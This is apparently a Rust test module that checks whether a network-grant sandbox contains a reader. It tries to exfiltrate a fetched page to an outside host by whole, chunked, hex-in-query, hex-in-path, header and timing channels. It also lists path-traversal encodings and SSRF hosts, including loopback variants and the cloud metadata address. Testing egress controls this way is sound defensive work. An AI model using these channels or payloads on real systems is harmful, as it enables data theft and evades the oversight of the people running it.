//! What the twin tries: to send a page away after it has read it, and to read what lies beside its grant.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::exchange::{Ask, Outcome};

/// How many pieces a page is cut into, and how long each is, in bytes.
const PIECES: usize = 8;
const PIECE: usize = 16;

/// Tries everything, in a fixed order. The page at `path` of `authority` is what is to be sent to `outside`.
pub(crate) fn all(authority: &str, path: &str, outside: &str) -> Vec<Value> {
    let mut attempts = Vec::new();
    // Handed over while there is nothing to hide yet: one flows while it is written, one is collected.
    let flowing = Ask::new("POST", outside, "/stream/opened").begin();
    let begun = flowing.as_ref().map_or(Ok(()), |begun| begun.write("begun "));
    let collected = Ask::new("POST", outside, "/take/opened").begin();

    let page = Ask::new("GET", authority, path).read();
    attempts.push(attempt("page", &format!("read http://{authority}{path}"), &page));
    let Ok(page) = page else { return attempts };

    let mut tried = |kind, what: &str, outcome: &Outcome| attempts.push(attempt(kind, what, outcome));
    let held = flowing.and_then(|flowing| flowing.finish(&[&page])).map(|got| format!("{got} ({begun:?})"));
    tried("held", "a body that flowed before the page was read", &held);
    let held = collected.and_then(|collected| collected.finish(&[&page]));
    tried("held", "a body that was opened before the page was read", &held);
    send(outside, &page, &mut tried);
    let back = Ask::new("POST", authority, path).send(&page);
    tried("method", "POST to where the page is", &back);
    look(authority, outside, &mut tried);
    attempts
}

fn attempt(kind: &str, what: &str, outcome: &Outcome) -> Value {
    match outcome {
        Ok(got) => json!({"kind": kind, "what": what, "got": got}),
        Err(refused) => json!({"kind": kind, "what": what, "refused": refused}),
    }
}

/// Sends the page to a host that is granted, but not for this.
fn send(outside: &str, page: &str, tried: &mut impl FnMut(&'static str, &str, &Outcome)) {
    tried("whole", "POST in one piece", &Ask::new("POST", outside, "/take/whole").send(page));
    tried("whole", "POST that flows", &Ask::new("POST", outside, "/stream/whole").send(page));
    for (number, piece) in page.as_bytes().chunks(PIECE).take(PIECES).enumerate() {
        let piece = String::from_utf8_lossy(piece);
        let path = format!("/take/piece/{number}");
        tried("piece", &format!("POST piece {number}"), &Ask::new("POST", outside, &path).send(&piece));
        let hexadecimal = piece.bytes().fold(String::new(), |mut text, byte| {
            // Writing to a text cannot fail.
            let _ = write!(text, "{byte:02x}");
            text
        });
        let query = format!("/take/query?{number}={hexadecimal}");
        tried("query", &format!("GET with piece {number} as the query"), &Ask::new("GET", outside, &query).read());
        let path = format!("/take/{hexadecimal}");
        tried("path", &format!("GET with piece {number} as the path"), &Ask::new("GET", outside, &path).read());
        let header = Ask { header: Some(&hexadecimal), ..Ask::new("GET", outside, "/take/header") };
        tried("header", &format!("GET with piece {number} in a header"), &header.read());
    }
    // A request that says nothing says when it was sent.
    tried("bit", "GET that says nothing", &Ask::new("GET", outside, "/take/").read());
}

/// Reads what lies beside the grant.
fn look(authority: &str, outside: &str, tried: &mut impl FnMut(&'static str, &str, &Outcome)) {
    let paths = [
        "/admin",
        "/",
        "/docs",
        "/docs/../admin",
        "/docs/%2e%2e/admin",
        "/docs/%2E%2E%2Fadmin",
        "/docs/..%2fadmin",
        "/docs/%252e%252e/admin/../../../admin",
        "/docs/./../admin",
        "/docs//../../admin",
        "/docs/..;/admin/../../admin",
        "/docs/..\\admin",
        "/docs/%5c..%5c../admin/../../../admin",
        "//docs/../admin",
    ];
    for path in paths {
        tried("outside", &format!("GET {path}"), &Ask::new("GET", authority, path).read());
    }
    let (host, port) = authority.split_once(':').unwrap_or((authority, "80"));
    let hosts = [
        format!("127.0.0.1:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("2130706433:{port}"),
        format!("0x7f.1:{port}"),
        format!("{host}.:{port}"),
        format!("{host}:1"),
        format!("docs.{host}:{port}"),
        format!("{authority}@{outside}"),
        format!("{outside}@{authority}"),
        "example.com".to_owned(),
        "169.254.169.254".to_owned(),
    ];
    for other in &hosts {
        tried("outside", &format!("GET http://{other}/docs/"), &Ask::new("GET", other, "/docs/").read());
    }
    let secure = Ask { scheme: "https", ..Ask::new("GET", authority, "/docs/") };
    tried("outside", &format!("GET https://{authority}/docs/"), &secure.read());
    for method in ["PUT", "DELETE", "PROPFIND"] {
        tried("method", &format!("{method} /docs/"), &Ask::new(method, authority, "/docs/").read());
    }
}
